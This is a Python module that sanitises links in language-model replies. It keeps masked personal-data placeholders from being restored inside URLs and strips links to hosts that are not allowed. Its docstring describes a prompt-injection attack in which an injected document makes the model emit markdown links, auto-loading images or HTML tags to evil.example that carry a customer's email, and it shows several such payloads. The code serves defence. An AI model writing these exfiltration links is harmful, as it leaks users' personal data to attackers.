"""Links in what the model writes (LLM mode): masked PII is never restored inside a URL, and
links to hosts outside ``MARA_LINK_HOSTS`` are shown as text naming the host.

Why: the model sees ``<EMAIL_1>`` instead of a customer's address, and placeholders are put
back in the reply. A prompt-injected document can make the model write
``[verify](https://evil.example/c?d=<EMAIL_1>)`` or ``![](https://evil.example/p?<EMAIL_1>)``;
restored blindly, one click (or none: images load by themselves) sends the address away.

So, in a reply:

* Markdown links and images, HTML tags with URL attributes and bare URLs (``scheme://…``,
  ``www.…``, ``mailto:``/``data:``/``javascript:`` …) keep their placeholders masked;
* such a link is kept only when it is relative (to Mara itself) or its host is allowed
  (``MARA_LINK_HOSTS``, comma-separated, ``*.example.com`` for subdomains; default none);
  otherwise it becomes text: ``verify (link to evil.example removed)``;
* in the remaining text a placeholder is restored unless its word looks like part of a URL
  (it contains ``/ ? = & #`` or ``%40``), so ``evil.example/c?d=<EMAIL_1>`` stays masked too;
* and no placeholder is restored after the first markup ``<`` of a reply (an HTML tag, an
  autolink or an angle-bracket link target ``](<…>)``/``]: <…>``): there a URL may contain
  spaces (``[r]: <//evil.example/c? <EMAIL_1>>``) or hide behind quotes (``<img alt="<"
  src="//evil.example/? <EMAIL_1>">``), which no word-by-word rule can see. Replies rarely
  need HTML; a comparison such as ``< 3`` is not markup.

:class:`SafeText` does the same to streamed text, holding back an unfinished link or word.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from typing import Protocol
from urllib.parse import urlsplit

_PLACEHOLDER = r"<[A-Z_]+_\d+>"
PLACEHOLDER = re.compile(_PLACEHOLDER)
_URL_CHAR = rf"(?:{_PLACEHOLDER}|[^\s<>\"'`])"
_TITLE = r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?"
# one way to match each character (a ``<`` only opens ``<…>``): no catastrophic backtracking
_ANGLED = rf"<(?:[^<>\n]|{_PLACEHOLDER})*>"
_TARGET = (
    rf"\(\s*(?P<{{name}}>(?:{_ANGLED}|[^\s()<>]|\((?:{_ANGLED}|[^\s()<>])*\))*){_TITLE}\s*\)"
)
_SCHEMES = r"(?:[A-Za-z][A-Za-z0-9+.\-]*://|www\.|(?:mailto|data|javascript|vbscript|file|tel|sms):)"
CONSTRUCT = re.compile(
    rf"(?P<image>!\[(?P<alt>[^\[\]\n]*)\]{_TARGET.format(name='src')})"
    rf"|(?P<link>\[(?P<text>[^\[\]\n]*)\]{_TARGET.format(name='href')})"
    rf"|(?P<tag><(?![A-Z_]+_\d+>)/?[A-Za-z][\w:-]*(?:\s(?:[^<>]|{_PLACEHOLDER})*)?/?>)"
    rf"|(?P<url>{_SCHEMES}{_URL_CHAR}+)"
)
#: Attributes whose value a browser fetches or follows.
_URL_ATTRS = re.compile(
    r"""\b(?:href|src|srcset|action|formaction|poster|background|cite|data|ping|xlink:href|style)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""",
    re.IGNORECASE,
)
_URLISH_WORD = re.compile(r"[/?=&#]|%40|\w\.[A-Za-z]{2,}(?:[:/?#]|$)")
_TRAILING = ".,;:!?*_~'\")]"
#: An unfinished link or image at the end of streamed text (``[text``, ``[text](https://…``).
_OPEN_LINK = re.compile(r"!?\[[^\[\]\n]*(?:\](?:\([^()\n]*)?)?$")
_OPEN_TAG = re.compile(r"<[A-Za-z/!][^<>]*$|<$")
#: Streamed text held back waiting for a link to close is released past this many characters.
MAX_HELD = 2000
#: A ``<`` that opens markup — a tag, comment or autolink (``<a``, ``</``, ``<!``, ``<//``, ``<\\``),
#: or an angle-bracket link target (``](<``, ``]: <``) — but not a placeholder, ``< 3``, ``<=`` or
#: ``<-``.
MARKUP_OPEN = re.compile(rf"<(?!{_PLACEHOLDER[1:]})(?![\s\d=<-])|\][(:]\s*<(?!{_PLACEHOLDER[1:]})")
#: How much already-emitted text :class:`SafeText` keeps to recognise ``](`` + ``<`` across pieces.
_TAIL = 200


class Unmasker(Protocol):
    def unmask(self, text: str) -> str: ...


def allowed_hosts(setting: str | Iterable[str]) -> tuple[str, ...]:
    """``MARA_LINK_HOSTS`` as lower-case host patterns."""
    items = setting.split(",") if isinstance(setting, str) else list(setting)
    return tuple(h.strip().lower().rstrip(".") for h in items if h.strip())


def _host_allowed(host: str, hosts: tuple[str, ...]) -> bool:
    for pattern in hosts:
        if pattern.startswith("*."):
            if host == pattern[2:] or host.endswith(pattern[1:]):
                return True
        elif host == pattern:
            return True
    return False


def link_verdict(target: str, hosts: tuple[str, ...]) -> tuple[bool, str]:
    """``(allowed, what to name it)`` for a link target: relative ones and allowed http(s) hosts
    pass; anything else is named by its host (or scheme)."""
    value = html.unescape(target.strip().strip("<>")).strip()
    value = re.sub(r"[\x00-\x20]", "", value).replace("\\", "/")
    if value.lower().startswith("www."):
        value = "https://" + value
    if not value.startswith("//") and not re.match(r"^[A-Za-z][A-Za-z0-9+.\-]*:", value):
        return True, "another site"  # relative: a page of Mara itself
    try:
        parts = urlsplit(value if not value.startswith("//") else "https:" + value)
        host = (parts.hostname or "").lower().rstrip(".")
    except ValueError:
        return False, "another site"
    label = re.sub(r"[^a-z0-9.\-:\[\]]", "", host) or f"a {parts.scheme or 'foreign'}: address"
    if parts.scheme in ("http", "https") and host and _host_allowed(host, hosts):
        return True, label
    return False, label


def _restore_words(text: str, vault: Unmasker | None) -> str:
    """Placeholders back to values, except in words that look like part of a URL."""
    if vault is None or "<" not in text:
        return text

    def word(match: re.Match[str]) -> str:
        token = match.group(0)
        if not PLACEHOLDER.search(token) or _URLISH_WORD.search(PLACEHOLDER.sub("", token)):
            return token
        return vault.unmask(token)

    return re.sub(r"\S+", word, text)


def markup_start(text: str, before: str = "") -> int | None:
    """Where the first markup ``<`` (:data:`MARKUP_OPEN`) of ``text`` is, ``before`` being the
    text that precedes it (for a ``(`` or ``:`` just before); ``None`` when there is none."""
    found = MARKUP_OPEN.search(before + text)
    if found is None:
        return None
    return max(found.start() - len(before), 0)


def safe_unmask(
    text: str, vault: Unmasker | None, hosts: tuple[str, ...] = (), *, markup_before: bool = False,
    before: str = "",
) -> str:
    """``text`` as the user may see it (see the module docs); ``vault`` None only applies the
    link rules (LLM mode without masking). ``markup_before``: the reply already had markup, so
    nothing in ``text`` is restored; ``before``: the text just before ``text`` (when streamed)."""
    cutoff = 0 if markup_before else markup_start(text, before)
    if cutoff is None:
        cutoff = len(text) + 1

    def vault_at(position: int) -> Unmasker | None:
        return vault if position < cutoff else None

    out: list[str] = []
    pos = 0
    for match in CONSTRUCT.finditer(text):
        out.append(_restore_span(text, pos, match.start(), vault, cutoff))
        out.append(_construct(match, vault_at(match.start()), hosts))
        pos = match.end()
    out.append(_restore_span(text, pos, len(text), vault, cutoff))
    return "".join(out)


def _restore_span(text: str, start: int, end: int, vault: Unmasker | None, cutoff: int) -> str:
    """:func:`_restore_words` on ``text[start:end]``, restoring nothing from ``cutoff`` on."""
    if cutoff >= end:
        return _restore_words(text[start:end], vault)
    if cutoff <= start:
        return text[start:end]
    return _restore_words(text[start:cutoff], vault) + text[cutoff:end]


def _construct(match: re.Match[str], vault: Unmasker | None, hosts: tuple[str, ...]) -> str:
    if match.group("image") is not None:
        alt = _restore_words(match.group("alt"), vault)
        ok, label = link_verdict(match.group("src"), hosts)
        if ok:
            return match.group(0)
        return f"{alt} (image from {label} removed)" if alt.strip() else f"(image from {label} removed)"
    if match.group("link") is not None:
        label_text = safe_unmask(match.group("text"), vault, hosts)
        ok, label = link_verdict(match.group("href"), hosts)
        if ok:
            return f"[{label_text}]({match.group(0).split('](', 1)[1]}"
        return f"{label_text} (link to {label} removed)"
    if match.group("tag") is not None:
        for attr in _URL_ATTRS.finditer(match.group(0)):
            value = attr.group(1).strip("\"'")
            if attr.group(0).lower().startswith("style"):
                found = re.search(r"url\(\s*['\"]?([^'\")\s]*)", html.unescape(value), re.IGNORECASE)
                if found is None:
                    continue
                value = found.group(1)
            for candidate in value.split(",") if attr.group(0).lower().startswith("srcset") else [value]:
                ok, label = link_verdict(candidate.strip().split(" ")[0], hosts)
                if not ok:
                    return f"(link to {label} removed)"
        return match.group(0)  # an allowed tag: kept as written, placeholders stay masked
    url = match.group("url")
    core = url.rstrip(_TRAILING)
    while core.endswith(">") and not PLACEHOLDER.search(core[core.rfind("<") :]):
        core = core[:-1]
    trailing = url[len(core) :]
    ok, label = link_verdict(core, hosts)
    return (core if ok else f"(link to {label} removed)") + trailing


class SafeText:
    """:func:`safe_unmask` for streamed text: emits what is complete, holds back a trailing
    word (it may be a URL or a placeholder still arriving) and any unfinished link or tag."""

    def __init__(self, vault: Unmasker | None, hosts: tuple[str, ...] = ()) -> None:
        self.vault = vault
        self.hosts = hosts
        self.pending = ""
        #: Whether text emitted so far (all steps of the turn) had markup: see :func:`safe_unmask`.
        self.markup_seen = False
        self._tail = ""

    def feed(self, delta: str) -> str:
        self.pending += delta
        cut = _safe_cut(self.pending)
        if cut == 0 and len(self.pending) > MAX_HELD:
            cut = len(self.pending)
        ready, self.pending = self.pending[:cut], self.pending[cut:]
        return self._render(ready)

    def flush(self) -> str:
        ready, self.pending = self.pending, ""
        return self._render(ready)

    def _render(self, ready: str) -> str:
        if not ready:
            return ""
        shown = safe_unmask(ready, self.vault, self.hosts, markup_before=self.markup_seen, before=self._tail)
        self.markup_seen = self.markup_seen or markup_start(ready, self._tail) is not None
        self._tail = (self._tail + ready)[-_TAIL:]
        return shown


def _safe_cut(text: str) -> int:
    """How much of ``text`` can be rendered now: up to its last whitespace, before any
    unfinished link, image or tag."""
    space = max(text.rfind(" "), text.rfind("\n"), text.rfind("\t"))
    cut = space + 1
    for pattern in (_OPEN_LINK, _OPEN_TAG):
        found = pattern.search(text)
        if found is not None:
            cut = min(cut, found.start())
    for match in CONSTRUCT.finditer(text, 0, cut + 200):  # never cut inside a finished link
        if match.start() < cut < match.end():
            cut = match.start()
    return max(cut, 0)
